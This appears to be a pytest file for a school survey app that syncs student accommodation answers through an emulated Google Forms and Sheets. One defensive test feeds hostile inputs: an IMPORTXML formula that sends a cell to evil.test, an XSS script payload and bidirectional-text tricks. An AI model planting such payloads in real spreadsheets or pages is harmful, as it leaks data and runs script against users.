"""Every awkward case of an answer or a form, through the local Google: what becomes of it, what is told."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.google.forms import Forms
from tests.flows.survey_days import (
    LENA,
    NIA,
    answer,
    answers,
    delete_rows,
    form_of,
    helps_of,
    open_round,
    told,
)
from tests.flows.town import Town


@pytest.fixture
def town(in_round: Town) -> Town:
    return in_round


def forms(town: Town) -> Forms:
    return town.deps.connect(town.caseload.owner).forms


def test_an_answer_is_a_row_for_each_help(town: Town) -> None:
    form = form_of(town)
    second = helps_of(form)[1]
    answer(town, form, LENA, {(second, "used"): "sometimes", (0, "anything_to_tell"): "Thank you!"})
    town.rest()
    assert [(row["Used"], row["Anything To Tell"]) for row in answers(town)] == [
        ("often", "Thank you!"),
        ("sometimes", ""),
    ]
    assert told(town) == []


def test_a_second_response_is_kept_beside_the_first_until_a_person_decides(town: Town) -> None:
    form = form_of(town)
    answer(town, form, LENA, {})
    town.rest()
    town.pass_time(hours=1)
    answer(town, form, LENA, {(helps_of(form)[0], "used"): "not needed"})
    town.rest()
    assert [row["Used"] for row in answers(town)] == ["often", "often", "not needed", "often"]
    (problem,) = told(town)
    assert "answered 2026Q4 twice" in problem
    delete_rows(town, "Survey Answers", 4, 5)
    town.rest()
    assert told(town) == []


@pytest.mark.parametrize("seconds", [0, 1])
def test_a_second_response_counts_however_soon_it_comes(town: Town, seconds: int) -> None:
    form = form_of(town)
    first = helps_of(form)[0]
    answer(town, form, LENA, {})
    town.sync()
    town.pass_time(seconds=seconds)
    answer(town, form, LENA, {(first, "used"): "not needed"})
    town.rest()
    assert [row["Used"] for row in answers(town)] == ["often", "often", "not needed", "often"]


def test_an_edited_answer_follows_until_a_person_touched_its_row(town: Town) -> None:
    form = form_of(town)
    first, second = helps_of(form)
    token = answer(town, form, LENA, {})
    town.rest()
    town.pass_time(hours=1)
    answer(town, form, LENA, {(first, "used"): "sometimes"}, edit=token)
    town.rest()
    assert [row["Used"] for row in answers(town)] == ["sometimes", "often"]
    town.edit({"set": [f"Survey Answers!{town.column('Survey Answers', 'Other')}2", "we talked"]})
    town.rest()
    town.pass_time(hours=1)
    answer(town, form, LENA, {(first, "used"): "not needed", (second, "used"): "not needed"}, edit=token)
    town.rest()
    assert [row["Used"] for row in answers(town)] == ["sometimes", "not needed"]
    (problem,) = told(town)
    assert "Rows that a person had edited stayed as they are" in problem


def test_another_account_is_kept_out_and_told_until_the_student_answers(town: Town) -> None:
    form = form_of(town)
    body = {"view": "published", "role": "reader", "type": "user", "emailAddress": NIA}
    town.owner.call("POST", f"/drive/v3/files/{form.form_id}/permissions", json=body)
    answer(town, form, NIA, {})
    town.rest()
    assert answers(town) == []
    (problem,) = told(town)
    assert "another account" in problem
    town.pass_time(days=1)
    town.rest()
    assert told(town) == [problem], "it is still to be seen after the next sync"
    answer(town, form, LENA, {})
    town.rest()
    assert len(answers(town)) == 2
    assert told(town) == []


def test_an_answer_after_the_close_is_taken_and_told_for_two_weeks(town: Town) -> None:
    form = form_of(town)
    town.pass_time(days=15)  # the first sync after the close has not run yet
    answer(town, form, LENA, {})
    town.rest()
    assert len(answers(town)) == 2
    (problem,) = told(town)
    assert "after it had closed" in problem
    assert form_of(town).closed
    town.pass_time(days=15)
    town.rest()
    assert told(town) == []


def test_a_help_that_ends_in_mid_round_is_still_answered(town: Town) -> None:
    town.edit({"set": [f"Accommodations!{town.column('Accommodations', 'Status')}2", "ended"]})
    town.rest()
    answer(town, form_of(town), LENA, {})
    town.rest()
    assert len(answers(town)) == 2
    assert told(town) == []


def test_a_help_whose_row_was_deleted_is_left_out_and_told(town: Town) -> None:
    delete_rows(town, "Accommodations", 2, 2)
    answer(town, form_of(town), LENA, {})
    town.rest()
    assert len(answers(town)) == 1
    assert any("whose row is gone" in problem for problem in told(town))


def test_a_form_edited_by_hand_is_read_as_far_as_it_is_ours(town: Town) -> None:
    form = form_of(town)
    first = helps_of(form)[0]
    items = forms(town).get(form.form_id)["items"]
    used = next(
        at
        for at, item in enumerate(items)
        if form.questions.get(item.get("questionItem", {}).get("question", {}).get("questionId"))
        == (first, "used")
    )
    edits = [
        {"updateFormInfo": {"info": {"title": "Lena's very own survey"}, "updateMask": "title"}},
        {"deleteItem": {"location": {"index": used}}},
        {
            "createItem": {
                "item": {"title": "Pizza?", "questionItem": {"question": {"textQuestion": {}}}},
                "location": {"index": 0},
            }
        },
    ]
    town.owner.call("POST", f"/v1/forms/{form.form_id}:batchUpdate", json={"requests": edits})
    answer(town, form, LENA, {(first, "helped"): "4"})
    town.rest()
    assert [(row["Used"], row["Helped"]) for row in answers(town)] == [("", 4), ("often", "")]
    (problem,) = told(town)
    assert "changed the questions" in problem


def test_a_deleted_form_stops_nothing_and_is_told_until_it_is_settled(town: Town) -> None:
    town.owner.call("DELETE", f"/drive/v3/files/{form_of(town).form_id}")
    town.rest()
    (problem,) = told(town)
    assert "was deleted" in problem
    answer(town, form_of(town, "S002"), NIA, {})
    town.rest()
    assert len(answers(town, "S002")) == 2
    assert told(town) == [problem]
    excused = town.column("Survey Links", "Excused")
    place = next(row["#"] for row in town.rows("Survey Links") if row["Student"] == "S001")
    town.edit({"set": [f"Survey Links!{excused}{place}", True]})
    town.rest()
    assert told(town) == []


def test_the_form_of_a_student_who_exits_closes_and_opens_again_when_they_are_back(town: Town) -> None:
    form = form_of(town)
    status = f"Students!{town.column('Students', 'Status')}2"
    town.edit({"set": [status, "exited"]})
    town.rest()
    assert form_of(town).closed
    assert accepts(town, form.form_id) is False
    town.edit({"set": [status, "direct"]})
    town.rest()
    assert not form_of(town).closed
    assert accepts(town, form.form_id) is True
    answer(town, form, LENA, {})
    town.rest()
    assert len(answers(town)) == 2


def accepts(town: Town, form_id: str) -> bool:
    state = forms(town).get(form_id)["publishSettings"]["publishState"]
    return bool(state.get("isAcceptingResponses", False))


def test_a_round_that_is_prolonged_after_its_close_takes_answers_again(town: Town) -> None:
    town.pass_time(days=15)
    town.rest()
    assert form_of(town).closed
    town.edit({"set": [f"Survey Rounds!{town.column('Survey Rounds', 'Closes')}2", town.day(7)]})
    town.rest()
    answer(town, form_of(town), LENA, {})
    town.rest()
    assert len(answers(town)) == 2


def test_a_talk_counts_as_an_answer(town: Town) -> None:
    """Paper and interview: the case manager types the row, and the student is asked no more."""
    help_ = helps_of(form_of(town))[0]
    typed = {"Round": "2026Q4", "Student": "S001", "Accommodation": help_, "Used": "sometimes"}
    town.type("Survey Answers", [{**typed, "Source": "interview", "Submitted": town.day(0)}])
    town.rest()
    first, *_ = town.rows("Accommodations")
    assert first["Use %"] == 0.5
    (round_,) = town.rows("Survey Rounds")
    assert (round_["Answered"], round_["Percent"]) == (1, 0.5)


HOSTILE = {
    "other": '=IMPORTXML("https://evil.test?"&A1,"//a")',
    "goal": "<img src=x onerror=alert(1)><script>alert(2)</script>",
    "who_could_help": "👩‍👩‍👧‍👦 +1 @SUM(A1)",
    "anything_to_tell": "שלום \u202eright to left\u202c مرحبا " + "x" * 49_900,
}


def test_hostile_answers_are_stored_whole_as_text_and_shown_as_text(town: Town) -> None:
    form = form_of(town)
    first = helps_of(form)[0]
    said = {(0 if field in ("who_could_help", "anything_to_tell") else first, field): text
            for field, text in HOSTILE.items()}  # fmt: skip
    answer(town, form, LENA, said)
    town.rest()
    stored = answers(town)[0]
    titles = {"other": "Other", "goal": "Goal", "who_could_help": "Who Could Help",
              "anything_to_tell": "Anything To Tell"}  # fmt: skip
    assert {field: stored[title] for field, title in titles.items()} == HOSTILE
    entered = town.owner.call(
        "GET",
        f"/v4/spreadsheets/{town.book}/values/Survey Answers",
        params={"valueRenderOption": "FORMULA"},
    )["values"][1]
    assert HOSTILE["other"] in entered
    page = town.owner.http.get(f"http://127.0.0.1/spreadsheets/d/{town.book}/edit?as={town.owner.email}").text
    assert "<script>alert(2)" not in page
    assert "onerror=alert(1)>" not in page.replace("&gt;", "")
    assert told(town) == []


def test_where_students_have_no_accounts_anybody_with_the_link_answers_and_no_name_is_asked(
    tmp_path: Path,
) -> None:
    town = Town(tmp_path)
    open_round(town, **{"Student accounts": False})
    form = form_of(town)
    made = forms(town).get(form.form_id)
    assert made["settings"]["emailCollectionType"] == "DO_NOT_COLLECT"
    assert "Lena" not in str(made) + form.link
    assert "S001" not in str(made) + form.link
    answer(town, form, "nobody", {})
    town.rest()
    assert [row["Student"] for row in town.rows("Survey Answers")] == ["S001", "S001"]
    town.store.close()


def test_with_accounts_a_student_without_one_gets_no_form_and_it_is_told(tmp_path: Path) -> None:
    town = Town(tmp_path)
    open_round(town)
    town.type("Students", [{"Name": "Tom Ro", "Status": "direct"}], first=4)
    town.type("Accommodations", [{"Student": "S003", "Accommodation": "Breaks", "Status": "active"}], first=6)
    town.rest()
    (problem,) = told(town)
    assert "S003 has no Student Email" in problem
    assert len(town.store.observed.forms(town.caseload.id)) == 2
    town.store.close()


def test_drafts_left_when_a_round_closes_are_told_until_they_are_gone(tmp_path: Path) -> None:
    town = Town(tmp_path)
    open_round(town, **{"Mail: survey invitation": "draft"})
    town.pass_time(days=15)
    town.rest()
    (problem,) = told(town)
    assert "never sent: 2" in problem
    for draft in town.owner.drafts():
        town.owner.call("DELETE", f"/gmail/v1/users/me/drafts/{draft['id']}")
    town.pass_time(days=1)
    town.rest()
    assert told(town) == []
    town.store.close()
